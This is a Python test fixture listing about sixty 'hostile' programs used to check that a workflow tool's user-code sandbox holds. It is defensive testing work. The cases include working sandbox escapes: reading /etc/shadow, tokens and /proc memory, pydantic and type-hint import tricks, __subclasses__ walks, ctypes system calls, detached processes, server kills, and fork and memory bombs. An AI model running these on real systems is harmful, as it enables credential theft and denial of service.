"""The hostile corpus: programs that try to get out of the user-code sandbox.

Each Python program defines ``attack()``; the test runs it through every channel its
case names (``load``: at module level of a LangGraph script, which runs when the script
is saved and again at each run; ``node``: inside a script's node; ``python``: a Python
Code node). JavaScript programs define ``main(state)`` for a JavaScript Code node.
Placeholders (``{HOME}``, ``{API_PORT}``, ``{LISTEN_PORT}``, ``{UDP_PORT}``,
``{ABSTRACT}``, ``{SERVER_PID}``, ``{MARKER}``, ``{OUTSIDE}``, ``{REPO}``) are filled
in by the test. What an attack returns comes back in the run's state, so a successful
read would show there; the test checks the canaries never do.

Sources, where a case comes from public material:
- [issue12] this repository's issue 12 (an attacker's report against the local stack).
- [audit] CPython's audit events table (docs.python.org/3/library/audit_events.html):
  ``_posixsubprocess.fork_exec`` raises none in 3.11, ``os.posix_spawn`` does.
- [hacktricks] "Bypass Python sandboxes" (book.hacktricks.wiki, generic-methodologies-
  and-resources/python/bypass-python-sandboxes): ``__subclasses__`` walks, builtins
  recovery, import through already-loaded modules.
- [pydantic] pydantic docs, ``ImportString`` (imports the dotted path it validates).
- [typing] CPython docs, ``typing.get_type_hints`` (evaluates string annotations).
- [proc] proc(5): ``/proc/<pid>/environ``, ``mem``, ``root``.
- [io_uring] Google's kCTF/VRP notes on io_uring (why it is often blocked by seccomp).
"""

# ruff: noqa: E501 - each program reads best on one line
from __future__ import annotations

from dataclasses import dataclass

ALL = ("load", "node", "python")
CODE = ("python",)


@dataclass(frozen=True)
class Case:
    name: str
    source: str
    channels: tuple[str, ...] = ALL
    language: str = "python"
    cite: str = ""


def _py(name: str, body: str, channels: tuple[str, ...] = ALL, cite: str = "") -> Case:
    return Case(name, body.strip("\n") + "\n", channels, "python", cite)


def _js(name: str, body: str, cite: str = "") -> Case:
    return Case(name, body.strip("\n") + "\n", ("javascript",), "javascript", cite)


_SLEEPER = "import time; time.sleep(120)  # {MARKER}"

CASES: list[Case] = [
    # --- the server's files ---------------------------------------------------------------
    _py("read_vault_key", "def attack():\n    return open('{HOME}/vault.key', 'rb').read()",
        cite="issue12"),
    _py("read_admin_token", "def attack():\n    return open('{HOME}/admin-token').read()",
        cite="issue12"),
    _py("read_sqlite_file", "def attack():\n    return open('{HOME}/orcheo.db', 'rb').read(4096)",
        cite="issue12"),
    _py("read_canary_in_home", "def attack():\n    return open('{HOME}/canary.txt').read()"),
    _py("list_home", "import os\ndef attack():\n    return os.listdir('{HOME}')"),
    _py("read_repo_file", "def attack():\n    return open('{REPO}/pyproject.toml').read()"),
    _py("read_outside_tmp", "def attack():\n    return open('{OUTSIDE}/canary.txt').read()"),
    _py("write_into_home", "def attack():\n    return open('{HOME}/pwned', 'w').write('x')"),
    _py("write_outside_tmp", "def attack():\n    return open('{OUTSIDE}/pwned', 'w').write('x')"),
    _py("read_etc_shadow", "def attack():\n    return open('/etc/shadow').read()"),
    # --- the server's processes: /proc ---------------------------------------------------
    _py("proc_parent_environ",
        "import os\ndef attack():\n    return open(f'/proc/{os.getppid()}/environ', 'rb').read()",
        cite="issue12, proc"),
    _py("proc_server_environ",
        "def attack():\n    return open('/proc/{SERVER_PID}/environ', 'rb').read()", cite="proc"),
    _py("proc_server_mem", """
def attack():
    maps = open('/proc/{SERVER_PID}/maps').read().splitlines()
    start = int(maps[0].split('-')[0], 16)
    with open('/proc/{SERVER_PID}/mem', 'rb') as mem:
        mem.seek(start)
        return mem.read(4096)
""", cite="proc"),
    _py("proc_server_root",
        "import os\ndef attack():\n    return os.listdir('/proc/{SERVER_PID}/root{HOME}')",
        cite="proc"),
    _py("proc_server_fd",
        "import os\ndef attack():\n    return os.listdir('/proc/{SERVER_PID}/fd')", cite="proc"),
    _py("environment_secrets", "import os\ndef attack():\n    return dict(os.environ)",
        cite="issue12"),
    # --- imports through library code ----------------------------------------------------
    _py("pydantic_import_string", """
from pydantic import ImportString, TypeAdapter
def attack():
    system = TypeAdapter(ImportString).validate_python('os.system')
    system('echo pwned > {OUTSIDE}/pwned; sleep 120 # {MARKER} &')
    opener = TypeAdapter(ImportString).validate_python('builtins.open')
    return opener('{HOME}/admin-token').read()
""", cite="issue12, pydantic"),
    _py("typing_get_type_hints", """
import typing
def attack():
    def f(x: "__import__('os').popen('cat {HOME}/admin-token').read()"):
        return x
    return typing.get_type_hints(f, globalns={})
""", cite="issue12, typing"),
    _py("importlib_via_pydantic", """
from pydantic import ImportString, TypeAdapter
def attack():
    load = TypeAdapter(ImportString).validate_python('importlib.import_module')
    return load('os').listdir('{HOME}')
""", cite="pydantic"),
    _py("pkgutil_resolve_name", """
from pydantic import ImportString, TypeAdapter
def attack():
    resolve = TypeAdapter(ImportString).validate_python('pkgutil.resolve_name')
    return resolve('os:listdir')('{HOME}')
""", cite="pydantic"),
    _py("sys_modules_already_loaded", """
from pydantic import ImportString, TypeAdapter
def attack():
    modules = TypeAdapter(ImportString).validate_python('sys.modules')
    return modules['os'].listdir('{HOME}')
""", cite="hacktricks"),
    _py("subclasses_walk", """
def attack():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == 'Popen':
            return cls(['cat', '{HOME}/admin-token'], stdout=-1).communicate()[0]
    return 'no Popen'
""", cite="hacktricks"),
    _py("builtins_from_a_function", """
def attack():
    builtins = (lambda: 0).__globals__['__builtins__']
    opener = builtins['open'] if isinstance(builtins, dict) else builtins.open
    return opener('{HOME}/vault.key', 'rb').read()
""", cite="hacktricks"),
    # --- processes without audit events, and children that outlive the job -----------------
    _py("posixsubprocess_fork_exec", """
import _posixsubprocess, os, sys
def attack():
    args = [sys.executable, '-c', '{SLEEPER}']
    return _posixsubprocess.fork_exec(
        args, [os.fsencode(sys.executable)], True, (), None, None,
        -1, -1, -1, -1, -1, -1, *os.pipe(), True, True, -1, None, None, None, -1, None, False)
""".replace("{SLEEPER}", _SLEEPER), channels=CODE, cite="issue12, audit"),
    _py("posix_spawn", """
import os, sys
def attack():
    return os.posix_spawn(sys.executable, [sys.executable, '-c', '{SLEEPER}'], {}, setsid=True)
""".replace("{SLEEPER}", _SLEEPER), cite="audit"),
    _py("fork_exec_setsid", """
import os, sys
def attack():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, '-c', '{SLEEPER}'])
    return pid
""".replace("{SLEEPER}", _SLEEPER), cite="issue12"),
    _py("double_fork_daemon", """
import os, sys
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, '-c', '{SLEEPER}'])
        os._exit(0)
    return 'daemonised'
""".replace("{SLEEPER}", _SLEEPER)),
    _py("subprocess_new_session", """
import subprocess, sys
def attack():
    return subprocess.Popen([sys.executable, '-c', '{SLEEPER}'], start_new_session=True).pid
""".replace("{SLEEPER}", _SLEEPER), cite="issue12"),
    _py("os_system_background", """
import os
def attack():
    return os.system('cat {HOME}/admin-token; (sleep 120 # {MARKER}) &')
"""),
    _py("multiprocessing_process", """
import multiprocessing, time
def attack():
    proc = multiprocessing.get_context('spawn').Process(target=time.sleep, args=(120,))
    proc.daemon = False
    proc.start()
    return proc.pid
"""),
    _py("ctypes_libc_system", """
import ctypes
def attack():
    return ctypes.CDLL(None).system(b'cat {HOME}/admin-token > {OUTSIDE}/pwned')
""", cite="issue12"),
    _py("ctypes_under_another_name", """
import importlib
def attack():
    lowlevel = importlib.import_module('_ctypes')
    handle = lowlevel.dlopen(None)
    return lowlevel.dlsym(handle, 'system')
""", cite="hacktricks"),
    _py("thread_outlives_the_job", """
import threading, time
def attack():
    def keep_going():
        while True:
            try:
                open('{OUTSIDE}/pwned-thread', 'a').write('x')
            except OSError:
                pass
            time.sleep(0.05)
    threading.Thread(target=keep_going, daemon=False).start()
    return 'started'
"""),
    _py("kill_the_server", """
import os, signal
def attack():
    done = []
    for target in ({SERVER_PID}, os.getppid(), -1, 0):
        try:
            os.kill(target, signal.SIGKILL)
            done.append(target)
        except OSError as exc:
            done.append(repr(exc))
    return done
"""),
    _py("ptrace_the_server", """
import ctypes
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    return [libc.ptrace(16, {SERVER_PID}, 0, 0), ctypes.get_errno()]
"""),
    _py("unshare_and_mount", """
import ctypes
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    return [libc.unshare(0x10000000 | 0x00020000), libc.mount(b'/', b'/tmp', None, 4096, None)]
"""),
    _py("io_uring_setup", """
import ctypes
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    return [libc.syscall(425, 8, ctypes.create_string_buffer(120)), ctypes.get_errno()]
""", cite="io_uring"),
    # --- the network ------------------------------------------------------------------------
    _py("socket_to_the_api", """
import socket
def attack():
    with socket.create_connection(('127.0.0.1', {API_PORT}), timeout=3) as conn:
        conn.sendall(b'GET /api/tokens HTTP/1.0\\r\\n\\r\\n')
        return conn.recv(4096)
""", cite="issue12"),
    _py("socket_to_another_port", """
import socket
def attack():
    return socket.create_connection(('127.0.0.1', {LISTEN_PORT}), timeout=3).getpeername()
"""),
    _py("udp_to_loopback", """
import socket
def attack():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return sock.sendto(b'pwned {MARKER}', ('127.0.0.1', {UDP_PORT}))
"""),
    _py("abstract_unix_socket", """
import socket
def attack():
    sock = socket.socket(socket.AF_UNIX)
    sock.connect('\\0{ABSTRACT}')
    return sock.send(b'pwned')
"""),
    _py("urllib_to_the_api", """
import urllib.request
def attack():
    return urllib.request.urlopen('http://127.0.0.1:{API_PORT}/api/health', timeout=3).read()
"""),
    _py("raw_socket", """
import socket
def attack():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW).fileno()
"""),
    # --- resources --------------------------------------------------------------------------
    _py("fork_bomb", """
import os
def attack():
    while True:
        os.fork()
""", channels=CODE),
    _py("memory_bomb", "def attack():\n    return len(bytearray(8 * 1024 ** 3))"),
    _py("memory_growth", """
def attack():
    rows = []
    while True:
        rows.append(' ' * 1_000_000)
""", channels=CODE),
    _py("huge_output", """
def attack():
    for _ in range(2000):
        print('x' * 100_000)
    return 'printed'
"""),
    _py("huge_result", "def attack():\n    return 'x' * (64 * 1024 * 1024)"),
    _py("many_files", """
def attack():
    for i in range(100_000):
        open(f'/tmp/f{i}', 'w').close()
    return i
""", channels=CODE),
    _py("big_file", """
def attack():
    with open('/tmp/big', 'wb') as out:
        for _ in range(1024):
            out.write(b'x' * 1024 * 1024)
    return 'written'
""", channels=CODE),
    _py("endless_loop", "def attack():\n    while True:\n        pass", channels=CODE),
    _py("sleep_forever", "import time\ndef attack():\n    time.sleep(3600)", channels=CODE),
    _py("kill_the_waiter_then_hang", """
import os, signal, time
def attack():
    os.kill(0, signal.SIGKILL)  # its process group: whatever waits for it outside, too
    time.sleep(3600)
""", channels=CODE),
    # --- JavaScript Code ---------------------------------------------------------------------
    _js("js_require_fs", "function main() { return require('fs').readFileSync('{HOME}/admin-token', 'utf8'); }"),
    _js("js_fetch_the_api", "function main() { return fetch('http://127.0.0.1:{API_PORT}/api/tokens'); }"),
    _js("js_process_env", "function main() { return JSON.stringify(process.env); }"),
    _js("js_dynamic_import", "async function main() { return (await import('fs')).readFileSync('/etc/passwd'); }"),
    _js("js_function_constructor_global", "function main() { return Object.keys(Function('return this')()); }"),
    _js("js_endless_loop", "function main() { while (true) {} }"),
    _js("js_heap_bomb", "function main() { const a = []; while (true) a.push('x'.repeat(1e6) + a.length); }"),
    _js("js_buffer_bomb", "function main() { const b = new Uint8Array(8e9); b.fill(1); return b.length; }"),
    _js("js_wasm_memory_bomb", "function main() { const m = new WebAssembly.Memory({initial: 1, maximum: 65536}); for (;;) m.grow(1024); }"),
    _js("js_huge_result", "function main() { return 'x'.repeat(200 * 1024 * 1024); }"),
    _js("js_console_flood", "function main() { for (let i = 0; i < 1e6; i++) console.log('x'.repeat(1000)); return 1; }"),
    _js("js_atomics_wait_forever", "function main() { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); }"),
]  # fmt: skip
